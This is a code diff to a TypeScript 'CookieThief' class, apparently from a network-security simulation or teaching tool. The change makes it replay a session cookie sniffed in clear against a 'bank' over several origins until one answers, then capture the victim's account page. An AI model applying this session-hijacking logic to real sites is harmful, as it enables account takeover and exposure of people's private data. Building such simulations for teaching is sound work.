@@ -55,14 +55,12 @@ export class CookieThief {
       fail(0, 'No cookie was read in clear.');
       return;
     }
-    const door = this.#door();
-    if (door === undefined) {
-      fail(0, 'The bank is closed.');
-      return;
-    }
-    try {
-      const { url, endpoint } = door;
-      const { status, html } = await this.#get(url, endpoint, stolen.cookie);
+    const doors = this.#doors(stolen.from);
+    for (const { url, endpoint } of doors) {
+      const answer = await this.#get(url, endpoint, stolen.cookie).catch(() => undefined);
+      if (this.#leaving.signal.aborted) return;
+      if (answer === undefined) continue;
+      const { status, html } = answer;
       if (status !== 200) {
         fail(status, `The bank answered ${status}: this cookie opens no account.`);
         return;
@@ -79,9 +77,9 @@ export class CookieThief {
         title,
         text,
       });
-    } catch {
-      if (!this.#leaving.signal.aborted) fail(0, 'The bank did not answer.');
+      return;
     }
+    fail(0, doors.length === 0 ? 'The bank is closed.' : 'The bank did not answer.');
   }
 
   /** Ends what is under way, without a word. */
@@ -90,12 +88,17 @@ export class CookieThief {
     return Promise.resolve();
   }
 
-  #door(): { url: URL; endpoint: Endpoint } | undefined {
+  /** Where the bank may be asked: over TLS, else where the victim was heard, else in clear. */
+  #doors({ request }: ExchangeRead): { url: URL; endpoint: Endpoint }[] {
     const { host, destinations } = this.#options;
-    const secure = destinations(`${host}:443`);
-    if (secure !== undefined) return { url: new URL(`https://${host}${PAGE}`), endpoint: secure };
-    const plain = destinations(`${host}:80`);
-    return plain && { url: new URL(`http://${host}${PAGE}`), endpoint: plain };
+    const heard = URL.parse(request.url)?.origin ?? '';
+    return [...new Set([`https://${host}`, heard, `http://${host}`])].flatMap((origin) => {
+      const url = URL.parse(PAGE, origin);
+      if (url === null) return [];
+      const port = url.port === '' ? (url.protocol === 'https:' ? 443 : 80) : Number(url.port);
+      const endpoint = destinations(`${url.hostname}:${port}`);
+      return endpoint === undefined ? [] : [{ url, endpoint }];
+    });
   }
 
   async #get(url: URL, { address, port }: Endpoint, cookie: string): Promise<Answer> {
